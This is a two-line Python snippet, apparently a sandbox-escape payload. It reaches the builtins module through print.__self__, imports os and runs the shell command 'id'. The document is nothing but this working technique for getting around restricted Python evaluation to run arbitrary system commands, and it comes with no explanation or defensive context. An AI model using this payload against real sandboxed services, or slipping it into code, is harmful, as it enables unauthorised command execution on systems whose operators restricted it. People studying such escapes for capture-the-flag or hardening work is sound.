# print.__self__ is the builtins module
print.__self__.__import__("os").system("id")
